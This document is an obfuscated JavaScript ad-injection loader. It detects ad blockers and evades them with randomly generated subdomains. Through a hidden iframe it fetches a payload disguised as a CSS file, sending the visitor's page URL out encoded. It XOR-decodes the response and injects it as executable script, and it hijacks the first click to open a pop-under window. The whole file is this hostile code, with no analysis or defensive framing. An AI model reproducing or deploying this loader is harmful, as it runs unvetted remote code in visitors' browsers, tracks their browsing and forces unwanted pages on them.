var _0x=['\x63\x72\x65\x61\x74\x65\x45\x6c\x65\x6d\x65\x6e\x74','\x69\x66\x72\x61\x6d\x65','\x61\x70\x70\x65\x6e\x64\x43\x68\x69\x6c\x64'];
(function(w,d){
function rnd(n){var s='';while(s.length<n)s+=Math.random().toString(36).slice(2);return s.slice(0,n).replace(/^\d/,'x')}
function blocked(cb){var t=d[_0x[0]]('div');t.className='adsbox ad-banner pub_300x250';t.style.cssText='position:absolute;left:-999px;height:9px';d.body[_0x[2]](t);setTimeout(function(){var b=t.offsetHeight===0||getComputedStyle(t).display==='none';t.remove();cb(b)},120)}
function clean(cb){var f=d[_0x[0]](_0x[1]);f.style.display='none';d.body[_0x[2]](f);cb(f.contentWindow);}
blocked(function(b){
var host=(b?rnd(9)+'.d'+(new Date().getUTCDate()*7919%997)+'net.example':'cdn.adserve.example');
clean(function(cw){
var x=new cw.XMLHttpRequest();
x.open('GET','https://'+host+'/'+rnd(6)+'/'+rnd(12)+'.css?b='+(b?1:0)+'&u='+btoa(location.href));
x.onload=function(){
var p=x.responseText.split('|'),dec=p[1].split('').map(function(c){return String.fromCharCode(c.charCodeAt(0)^5)}).join('');
var s=d[_0x[0]]('script');s.text=dec;d.head[_0x[2]](s);
d.addEventListener('click',function(){var z=w.open('about:blank');z&&(z.location=p[0])},{once:true,capture:true});
};
x.send();
});
});
})(window,document);
